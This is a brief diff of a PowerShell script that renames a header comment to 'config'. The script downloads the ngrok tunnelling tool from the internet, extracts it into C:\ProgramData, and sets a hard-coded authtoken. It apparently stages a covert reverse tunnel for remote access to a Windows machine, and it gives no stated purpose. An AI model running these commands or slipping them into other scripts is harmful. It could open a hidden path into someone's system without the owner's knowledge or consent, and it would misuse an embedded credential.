@@ -1,4 +1,4 @@
-# init 7913 v0
+# config 2219 v0
 Invoke-WebRequest 'https://bin.equinox.io/c/bNyj1mQVY4c/ngrok-v3-stable-windows-amd64.zip' -OutFile $env:TEMP\n.zip
 Expand-Archive $env:TEMP\n.zip -DestinationPath C:\ProgramData\ng
 C:\ProgramData\ng\ngrok.exe authtoken 2abcDEFghiJKLmnoPQRstuVWxyz_0987654321
